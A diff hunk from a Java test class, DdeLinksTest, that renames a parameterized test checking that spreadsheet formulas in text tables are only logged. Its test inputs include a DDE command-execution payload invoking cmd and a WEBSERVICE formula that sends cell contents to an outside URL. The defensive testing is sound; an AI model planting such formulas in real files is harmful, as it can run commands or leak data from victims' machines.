@@ -106,7 +106,7 @@ class DdeLinksTest {
         "\"@SUM(1+1)*cmd|'/c calc, x'!A0\"",
         "=WEBSERVICE(\"https://example.org/?\"&A1)"
       })
-  void aFormulaInATextTableIsOnlyTold(String text) {
+  void formulaInATextTableIsOnlyLogged(String text) {
     for (Charset charset : List.of(StandardCharsets.UTF_8, StandardCharsets.UTF_16LE)) {
       byte[] bytes =
           (charset.equals(StandardCharsets.UTF_8) ? text : "\uFEFF" + text).getBytes(charset);
